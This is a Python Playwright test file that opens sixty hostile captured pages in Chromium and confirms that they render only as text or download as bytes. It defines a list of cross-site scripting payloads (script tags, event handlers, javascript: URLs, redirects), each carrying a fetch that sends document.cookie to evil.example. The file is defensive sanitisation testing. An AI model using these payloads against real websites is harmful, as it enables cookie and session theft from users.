"""Sixty captures made to harm, opened in Chromium: no script runs, nothing is asked of anybody, no cookie is read."""

import pytest
from playwright.sync_api import Page

from annotations.verification.sourcing import add_source
from tests.browser.conftest import Windows
from tests.factories import sources
from tests.factories.claims import Desk, desk, fact

# What it would do if it ran. The windows of these tests fail where anything is asked of another host.
RUN = "window.ran=1;fetch('https://evil.example/?'+document.cookie)"
ACTS = (
    "<script>{}</script>", "<script src='https://evil.example/x.js'></script>", "<img src=x onerror=\"{}\">",
    "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<body onload=\"{}\">",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=\"javascript:parent.{}\">", "<a href=\"javascript:{}\" autofocus onfocus=\"{}\">x</a>",
    "<input autofocus onfocus=\"{}\">", "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\"></video>",
    "<audio src=x onerror=\"{}\">", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example' id=f></form><script>f.submit()</script>",
)  # fmt: skip
BEFORE = ("", "</div></p></main>", "]]>--></title></textarea></style>")
HOSTILE = [before + act.replace("{}", RUN) for before in BEFORE for act in ACTS]


@pytest.fixture
def at(site: str) -> Desk:
    return desk()


def harmless(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    assert page.url.startswith("http://") and "evil" not in page.url


def test_their_text_is_only_ever_text(at: Desk, windows: Windows) -> None:
    assert len(set(HOSTILE)) == 60
    claim, page = fact(at), windows(at.ben)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for number, text in enumerate(HOSTILE):
        source = add_source(at.ben, slug="desk", url=f"https://example.org/{number}", title=text[:500])
        snapshot = sources.kept(at.ben, source, f"{text}\nAnd a line.")
        shown = (f"/claims/{claim.pk}/read/{source.pk}/", f"/sources/{source.pk}/", f"/snapshots/{snapshot.pk}/")
        page.goto(shown[number % 3])
        harmless(page)
        if number % 3 != 1:
            assert page.locator("#text").evaluate("element => element.textContent") == f"{text}\nAnd a line."


def test_their_bytes_are_only_ever_downloads(at: Desk, windows: Windows) -> None:
    page = windows(at.ben)
    for number, text in enumerate(HOSTILE[:20]):
        source = add_source(at.ben, slug="desk", url=f"https://example.org/{number}")
        snapshot = sources.kept(at.ben, source, text)
        page.goto(f"/sources/{source.pk}/")
        with page.expect_download() as download:
            page.get_by_role("link", name="document").click()
        assert download.value.suggested_filename == f"{snapshot.pk}.bin"
        harmless(page)
